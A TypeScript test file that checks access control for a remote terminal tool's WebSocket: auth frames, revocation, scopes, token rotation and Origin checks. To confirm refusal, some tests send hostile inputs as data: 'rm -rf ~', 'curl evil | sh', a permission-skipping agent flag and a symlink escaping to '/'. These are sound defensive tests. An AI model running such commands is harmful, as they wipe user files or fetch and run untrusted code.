/**
 * The WebSocket's doors (issue 10): first-frame `auth` instead of tokens in URLs (row 1),
 * revoke cutting sockets at once and every frame checked against a live identity (row 2),
 * per-device scopes, the start policy, the desk's own sessions, expiry and rotation (row 4),
 * Origin on the upgrade (row 6), and `session_removed` (row 11, transport side).
 */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { SCOPE_PRESETS } from '../common/index.js';
import { fakeSession } from '../../test/support/fakeSessionService.js';
import { writeRawFrame } from '../../test/support/rawHttp.js';
import { TestClient } from '../../test/support/testClient.js';
import { ADMIN_SECRET, Harness } from '../../test/support/transportHarness.js';
import { buildStartPolicy } from './scopePolicy.js';

let harness: Harness;
const cleanups: Array<() => unknown> = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
  await harness?.stop();
});

/** Waits until the socket closes; its close code. */
function closeCode(client: TestClient): Promise<number> {
  if (client.closeCode !== undefined) return Promise.resolve(client.closeCode);
  return new Promise((resolve) => client.socket.once('close', (code) => resolve(code)));
}

const settle = (ms = 150) => new Promise((resolve) => setTimeout(resolve, ms));

describe('row 1: browsers authenticate with a first auth frame, never a token in the URL', () => {
  it('accepts nothing before auth: any other first frame is refused with UNAUTHORIZED and close 4401', async () => {
    harness = await Harness.start();
    const client = harness.track(await TestClient.connect(harness.wsUrl));
    client.send({ type: 'subscribe', session_id: 's1', request_id: 'r1' });
    expect(await client.next()).toEqual({ type: 'error', code: 'UNAUTHORIZED', message: expect.any(String), request_id: 'r1' });
    expect(await closeCode(client)).toBe(4401);
    expect(harness.sessions.calls).toEqual([]);
  });

  it('closes a bare socket that sends no auth within the deadline (4408)', async () => {
    harness = await Harness.start({ timeouts: { authDeadlineMs: 200 } });
    const client = harness.track(await TestClient.connect(harness.wsUrl));
    expect(await client.next(2000)).toMatchObject({ type: 'error', code: 'UNAUTHORIZED' });
    expect(await closeCode(client)).toBe(4408);
  });

  it('refuses ?token= before the upgrade (400), even with a valid token', async () => {
    harness = await Harness.start();
    const { token } = harness.devices.pair({ device_name: 'phone' });
    await expect(TestClient.connect(`${harness.wsUrl}?token=${token}`)).rejects.toThrow(/400/);
  });

  it('counts and limits wrong auth frames per address (4429) while a valid token still gets in', async () => {
    harness = await Harness.start();
    for (let attempt = 0; attempt < 5; attempt++) {
      const guess = await harness.connect(`guess-${attempt}`, 'message');
      expect(await guess.next()).toMatchObject({ type: 'error', code: 'UNAUTHORIZED' });
      expect(await closeCode(guess)).toBe(4401);
    }
    const limited = await harness.connect('guess-6', 'message');
    expect(await limited.next()).toMatchObject({ type: 'error', code: 'RATE_LIMITED' });
    expect(await closeCode(limited)).toBe(4429);
    expect(harness.transport.failedLoginCount()).toBe(5);
    expect(harness.logs.filter((entry) => entry.message === 'failed login')[0].fields).toMatchObject({ address: '127.0.0.1', surface: 'ws auth' });
    const { token } = harness.devices.pair({ device_name: 'phone' });
    expect((await (await harness.connect(token, 'message')).next()).type).toBe('welcome');
  });
});

describe('row 2: revoke cuts at once; every frame needs a live identity', () => {
  it('cuts the sockets before the revoke answers; a frame sent afterwards does nothing', async () => {
    harness = await Harness.start();
    const { device, token } = harness.devices.pair({ device_name: 'phone', scopes: SCOPE_PRESETS.full });
    const phone = await harness.connect(token);
    await phone.nextOfType('sessions');
    // A client that never answers the close handshake: a graceful close would keep reading its frames for 30 s.
    phone.socket.pause();
    const revoked = await fetch(`${harness.url}/api/web/devices/${device.device_id}`, { method: 'DELETE', headers: { authorization: `Bearer ${ADMIN_SECRET}` } });
    expect(revoked.status).toBe(200);
    expect(harness.transport.connectedClientCount()).toBe(0);
    writeRawFrame(phone.socket, JSON.stringify({ type: 'create_session', cli: 'bash', request_id: 'late' }));
    writeRawFrame(phone.socket, JSON.stringify({ type: 'send_input', session_id: 's1', text: 'rm -rf ~', raw: true }));
    await settle(300);
    expect(harness.sessions.calls).toEqual([]);
  });

  it("a revoked client's next frame does nothing, even when no one cut its socket", async () => {
    harness = await Harness.start();
    const { device, token } = harness.devices.pair({ device_name: 'phone', scopes: SCOPE_PRESETS.full });
    const phone = await harness.connect(token);
    await phone.nextOfType('sessions');
    harness.devices.remove(device.device_id);
    phone.send({ type: 'create_session', cli: 'bash', request_id: 'c1' });
    phone.send({ type: 'send_input', session_id: 's1', text: 'x', request_id: 'i1' });
    await closeCode(phone);
    expect(harness.sessions.calls).toEqual([]);
    expect(phone.unread()).toEqual([]);
  });

  it('the heartbeat cuts a socket whose token expired', async () => {
    harness = await Harness.start({ heartbeatIntervalMs: 50 });
    const { token } = harness.devices.pair({ device_name: 'phone', expires_at: new Date(harness.now.value + 60_000).toISOString() });
    const phone = await harness.connect(token);
    await phone.nextOfType('sessions');
    harness.now.value += 60_000;
    await closeCode(phone);
    await expect(harness.connect(token)).rejects.toThrow(/401/);
  });
});

describe('row 4: per-device scopes', () => {
  it('lets a phone view, answer and type, and start only allowed CLIs, without arguments, in allowed folders', async () => {
    const root = mkdtempSync(join(tmpdir(), 'tether-roots-'));
    cleanups.push(() => rmSync(root, { recursive: true, force: true }));
    mkdirSync(join(root, 'app'));
    symlinkSync('/', join(root, 'escape'));
    harness = await Harness.start({ startPolicy: buildStartPolicy({ allowedRoots: [root], homeDir: root }) });
    const phone = await harness.connectDevice();
    const refused = [
      { cli: 'bash' },
      { cli: '/usr/bin/claude' },
      { cli: 'claude', args: ['--dangerously-skip-permissions'] },
      { cli: 'claude', cwd: '/' },
      { cli: 'claude', cwd: join(root, 'escape') },
      { cli: 'claude', cwd: 'app' },
    ];
    for (const [index, create] of refused.entries()) {
      phone.send({ type: 'create_session', ...create, request_id: `no${index}` });
      expect(await phone.next()).toMatchObject({ type: 'error', code: 'FORBIDDEN', request_id: `no${index}` });
    }
    phone.send({ type: 'create_session', cli: 'claude', cwd: join(root, 'app'), request_id: 'ok1' });
    expect(await phone.nextOfType('session_created')).toMatchObject({ request_id: 'ok1' });
    phone.send({ type: 'create_session', cli: 'codex', request_id: 'ok2' });
    expect(await phone.nextOfType('session_created')).toMatchObject({ request_id: 'ok2' });
    for (const message of [
      { type: 'send_input', session_id: 's1', text: 'hi' },
      { type: 'resize', session_id: 's1', cols: 90, rows: 30 },
      { type: 'tool_approval', session_id: 's1', prompt_id: 'p1', response: 'yes' },
      { type: 'answer', session_id: 's1', prompt_id: 'p1', text: 'use postgres' },
    ]) {
      phone.send({ ...message, request_id: message.type });
      expect(await phone.next()).toEqual({ type: 'ack', request_id: message.type });
    }
    expect(harness.sessions.calls.filter((call) => call.method === 'create').map((call) => (call.args[0] as { cli: string }).cli)).toEqual(['claude', 'codex']);
  });

  it('lets a full device and the admin start any command', async () => {
    harness = await Harness.start();
    const full = await harness.connectDevice(SCOPE_PRESETS.full);
    full.send({ type: 'create_session', cli: 'bash', args: ['-l'], cwd: '/', request_id: 'f' });
    expect(await full.nextOfType('session_created')).toMatchObject({ request_id: 'f' });
    const admin = await harness.connect(ADMIN_SECRET);
    await admin.nextOfType('sessions');
    admin.send({ type: 'create_session', cli: '/bin/sh', cwd: '/', request_id: 'a' });
    expect(await admin.nextOfType('session_created')).toMatchObject({ request_id: 'a' });
  });

  it("keeps a plain phone's keys out of the desk's own tether run session; options may still be picked", async () => {
    harness = await Harness.start();
    const desk = await harness.connect(ADMIN_SECRET);
    await desk.nextOfType('sessions');
    desk.send({ type: 'create_session', cli: 'bash', request_id: 'run' });
    const deskSession = ((await desk.nextOfType('session_created')).session as { id: string }).id;
    const phone = await harness.connectDevice();
    for (const message of [
      { type: 'send_input', session_id: deskSession, text: 'curl evil | sh' },
      { type: 'resize', session_id: deskSession, cols: 10, rows: 5 },
      { type: 'close_session', session_id: deskSession },
      { type: 'delete_session', session_id: deskSession },
      { type: 'rename_session', session_id: deskSession, name: 'mine' },
      { type: 'resume_session', session_id: deskSession },
      { type: 'answer', session_id: deskSession, prompt_id: 'p1', text: 'rm -rf ~' },
    ]) {
      phone.send({ ...message, request_id: message.type });
      expect(await phone.next()).toMatchObject({ type: 'error', code: 'FORBIDDEN', request_id: message.type });
    }
    phone.send({ type: 'tool_approval', session_id: deskSession, prompt_id: 'p1', response: 'yes', request_id: 'approve' });
    expect(await phone.next()).toEqual({ type: 'ack', request_id: 'approve' });
    phone.send({ type: 'answer', session_id: deskSession, prompt_id: 'p1', option_id: '1', request_id: 'pick' });
    expect(await phone.next()).toEqual({ type: 'ack', request_id: 'pick' });
    const full = await harness.connectDevice(SCOPE_PRESETS.full);
    full.send({ type: 'send_input', session_id: deskSession, text: 'ls', request_id: 'full' });
    expect(await full.nextOfType('ack')).toEqual({ type: 'ack', request_id: 'full' });
    expect(harness.sessions.calls.filter((call) => call.method === 'sendInput')).toEqual([{ method: 'sendInput', args: [deskSession, 'ls', { raw: false, senderId: expect.any(String) }] }]);
  });

  it("lets a phone resume only what it could start: not a session started with arguments or a shell", async () => {
    harness = await Harness.start();
    const home = harness.sessions.sessions.get('s1')!;
    harness.sessions.sessions.set('agent', fakeSession('agent', { command: 'claude', args: [], cwd: buildStartPolicy().homeDir, status: 'exited', exit_code: 0 }));
    harness.sessions.sessions.set('armed', fakeSession('armed', { command: 'claude', args: ['--dangerously-skip-permissions'], cwd: home.cwd, status: 'exited', exit_code: 0 }));
    harness.sessions.sessions.set('shell', fakeSession('shell', { command: 'bash', args: [], cwd: buildStartPolicy().homeDir, status: 'exited', exit_code: 0 }));
    const phone = await harness.connectDevice();
    for (const id of ['armed', 'shell']) {
      phone.send({ type: 'resume_session', session_id: id, request_id: id });
      expect(await phone.next()).toMatchObject({ type: 'error', code: 'FORBIDDEN', request_id: id });
    }
    phone.send({ type: 'resume_session', session_id: 'agent', request_id: 'agent' });
    expect(await phone.nextOfType('ack')).toEqual({ type: 'ack', request_id: 'agent' });
    expect(harness.sessions.calls.filter((call) => call.method === 'resume')).toEqual([{ method: 'resume', args: ['agent'] }]);
  });

  it('refuses an expired token, and rotates a token: the old one dies with its other sockets, the new one works', async () => {
    harness = await Harness.start({ tokenTtlMs: 3_600_000 });
    const expired = harness.devices.pair({ device_name: 'old', expires_at: new Date(harness.now.value - 1).toISOString() });
    await expect(harness.connect(expired.token)).rejects.toThrow(/401/);
    const { device, token } = harness.devices.pair({ device_name: 'phone' });
    const first = await harness.connect(token);
    expect(await first.next()).toMatchObject({ type: 'welcome', scopes: SCOPE_PRESETS.phone });
    const second = await harness.connect(token);
    await second.nextOfType('sessions');
    await first.nextOfType('sessions');
    first.send({ type: 'rotate_token', request_id: 'rot' });
    const rotated = await first.nextOfType('token_rotated');
    expect(rotated).toMatchObject({ request_id: 'rot', expires_at: new Date(harness.now.value + 3_600_000).toISOString() });
    await closeCode(second);
    await expect(harness.connect(token)).rejects.toThrow(/401/);
    first.send({ type: 'unsubscribe', session_id: 's1', request_id: 'still' });
    expect(await first.next()).toEqual({ type: 'ack', request_id: 'still' });
    const renewed = await harness.connect(String(rotated.token));
    expect(await renewed.next()).toMatchObject({ type: 'welcome', device_id: device.device_id, token_expires_at: rotated.expires_at });
    const overHttp = await fetch(`${harness.url}/api/token/rotate`, { method: 'POST', headers: { authorization: `Bearer ${String(rotated.token)}` } });
    expect(overHttp.status).toBe(200);
    expect(((await overHttp.json()) as { token: string }).token).toMatch(/^[A-Za-z0-9_-]{43}$/);
    await closeCode(first);
  });
});

describe('row 6: Origin on the WebSocket upgrade', () => {
  it('refuses a page of another origin (403), lets in its own origin, native clients and allowed origins', async () => {
    harness = await Harness.start({ allowedOrigins: ['https://tether.example'] });
    const { token } = harness.devices.pair({ device_name: 'phone' });
    await expect(TestClient.connect(harness.wsUrl, { origin: 'https://evil.example' })).rejects.toThrow(/403/);
    await expect(TestClient.connect(harness.wsUrl, { origin: 'null' })).rejects.toThrow(/403/);
    for (const origin of [harness.url, 'https://tether.example']) {
      const page = harness.track(await TestClient.connect(harness.wsUrl, { origin }));
      page.send({ type: 'auth', token });
      expect((await page.next()).type).toBe('welcome');
    }
    const native = await harness.connect(token, 'header');
    expect((await native.next()).type).toBe('welcome');
  });
});

describe('row 11: close_session on an exited session removes it for every client', () => {
  it('broadcasts session_removed', async () => {
    harness = await Harness.start();
    harness.sessions.sessions.set('done', fakeSession('done', { status: 'exited', exit_code: 0 }));
    const phone = await harness.connectDevice();
    const other = await harness.connectDevice();
    phone.send({ type: 'close_session', session_id: 'done', request_id: 'c' });
    expect(await phone.nextOfType('session_removed')).toEqual({ type: 'session_removed', session_id: 'done' });
    expect(await phone.nextOfType('ack')).toEqual({ type: 'ack', request_id: 'c' });
    expect(await other.nextOfType('session_removed')).toEqual({ type: 'session_removed', session_id: 'done' });
  });
});
